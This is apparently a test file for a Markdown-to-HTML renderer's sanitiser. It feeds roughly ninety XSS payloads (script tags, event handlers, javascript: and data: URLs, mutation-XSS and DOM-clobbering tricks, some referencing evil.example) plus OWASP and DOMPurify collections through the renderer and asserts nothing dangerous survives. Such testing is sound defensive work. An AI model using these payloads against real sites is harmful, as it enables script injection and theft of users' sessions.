import type { Root } from "hast";
import { fixtureTree } from "../../tests/support/fixture-tree";
import { collectedPayloads } from "../../tests/support/payloads";
import { en } from "../words/en";
import { type BodyOptions, renderBody } from "./body";
import { ContentError } from "./content-error";
import { elementsOf } from "./element";
import { renderInline } from "./inline";

const options: BodyOptions = {
  file: "index.md",
  directory: __dirname,
  contentDirectory: __dirname,
  siteUrl: "https://rung.example",
  pathPrefix: "",
  lang: "en",
  words: en.text,
  parts: true,
  images: { cacheDirectory: "/nowhere", outputDirectory: "/nowhere", outputPath: "/static/images" },
};

const payloads = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<script\n>alert(1)</script >",
  "<<script>script>alert(1)<</script>/script>",
  "<img src=https://x.example/x onerror=alert(1)>",
  "<img src=https://x.example/x onerror=alert(1)//",
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>">',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<iframe src=javascript:alert(1)></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<applet code=x></applet>",
  "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
  "<input onfocus=alert(1) autofocus>",
  "<input type=image src=x onerror=alert(1)>",
  "<isindex action=javascript:alert(1)>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<body onload=alert(1)>",
  "<html onmouseover=alert(1)>",
  "<base href=javascript:alert(1)//>",
  "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
  "<link rel=stylesheet href=javascript:alert(1)>",
  "<style>@import 'javascript:alert(1)';</style>",
  '<p style="background:url(javascript:alert(1))">x</p>',
  "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</td></tr></table>",
  "<a href=javascript:alert(1)>x</a>",
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  "<a href=vbscript:alert(1)>x</a>",
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  "<a href=https://x.example target=_blank onclick=alert(1) ping=https://evil.example>x</a>",
  "<area href=javascript:alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<slot onslotchange=alert(1)>x</slot>",
  "<x-y onclick=alert(1)>x</x-y>",
  "<p is=evil onclick=alert(1)>x</p>",
  "<img name=cookie src=https://x.example/x><form name=body><input name=parentNode></form>",
  "<a id=__proto__>x</a><a id=document>x</a><a id=document name=cookie>x</a>",
  '<div class="callout callout-note" role=alert>x</div>',
  '<div class="footnotes"><ol><li id="fn-x" onclick=alert(1)><script>alert(1)</script>x</li></ol></div>',
  "<!--><script>alert(1)</script>-->",
  "<!-- --!><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  "<plaintext><script>alert(1)</script>",
  "[x](javascript:alert(1))",
  "[x](<java\\\nscript:alert(1)>)",
  "[x](JaVaScRiPt:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
  '![x" onerror="alert(1)](https://x.example/x)',
  "![x](https://x.example/x 'y\" onerror=\"alert(1)')",
  '[x](https://x.example/"onmouseover="alert(1))',
  '## <img src=https://x.example/x onerror=alert(1)> x" onclick="alert(1)',
  "## Question <script>alert(1)</script>\n\nx\n\n## Answer\n\ny",
  "> [!NOTE]\n> <script>alert(1)</script>",
  "```say\n<script>alert(1)</script>\n```",
  "```js\n</code></pre><script>alert(1)</script>\n```",
  '```"><script>alert(1)</script>\nx\n```',
  "`<script>alert(1)</script>`",
  "x[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: y",
  "x^[<img src=https://x.example/x onerror=alert(1)>]",
  "| <script>alert(1)</script> |\n|--|\n| <b onclick=alert(1)>x</b> |",
];

const elements = new Set(
  (
    "a abbr aside b blockquote br caption cite code dd del details dfn div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i " +
    "img input ins kbd li mark ol p picture pre q s samp section small source span strong sub summary sup table " +
    "tbody td th thead time tr u ul var wbr"
  ).split(" "),
);
const attributes = new Set(
  (
    "alt ariaHidden ariaLabel checked cite className colSpan dataCopied dataCopy dataLanguage dateTime decoding disabled height href id " +
    "lang loading open referrerPolicy rel role rowSpan scope sizes src srcSet start tabIndex title type width"
  ).split(" "),
);

/** What a browser would make of the HTML: parsed anew, so that what only looks like text counts. */
async function dangers(html: string): Promise<string[]> {
  const tree: Root = await fixtureTree(`<div>${html.replace(/\n\s*/g, " ")}</div>`);
  return elementsOf(tree).flatMap(({ tagName, properties }) => [
    ...(elements.has(tagName) ? [] : [`<${tagName}>`]),
    ...Object.keys(properties).filter((name) => !attributes.has(name)),
    ...[properties.href, properties.src, properties.cite]
      .map((address) => String(address ?? ""))
      .filter((address) => /^[^/?#]*:/.test(address) && !/^(?:https?|mailto|tel):/i.test(address)),
    ...(/^(?:document|body|cookie|__proto__|parentNode)$/.test(String(properties.id))
      ? ["id"]
      : []),
  ]);
}

test("the check itself sees what is dangerous", async () => {
  expect(
    await dangers('<img src="javascript:x" onerror="x"><script>x</script><a id="cookie">x</a>'),
  ).toEqual(["onError", "javascript:x", "<script>", "id"]);
});

/** What is dangerous of a body; nothing where it is refused, for an image that is not there. */
async function dangersOfBody(payload: string): Promise<string[]> {
  try {
    const { context, exchanges } = await renderBody(await fixtureTree(payload), options);
    const html = [context, ...exchanges.flatMap(({ question, answer }) => [question, answer])];
    return await dangers(html.join(""));
  } catch (error) {
    if (error instanceof ContentError) return [];
    throw error;
  }
}

test.each(payloads)("in a body: %s", async (written) => {
  const payload = written.replace(/src=[x1] /g, "src=https://x.example/x ");
  expect(await dangersOfBody(payload)).toEqual([]);
});

test("in a body, each alone: OWASP's and DOMPurify's", async () => {
  for (const written of collectedPayloads()) {
    const payload = written.replace(
      /src=(["']?)(?:[x1.#/])(?=["' />])/gi,
      "src=$1https://x.example/x",
    );
    expect([payload, await dangersOfBody(payload)]).toEqual([payload, []]);
  }
});

test.each(payloads)("in a line: %s", async (payload) => {
  expect(await dangers(renderInline(payload).html)).toEqual([]);
});

test("in a line: OWASP's and DOMPurify's", async () => {
  for (const payload of collectedPayloads()) {
    expect([payload, await dangers(renderInline(payload).html)]).toEqual([payload, []]);
  }
});
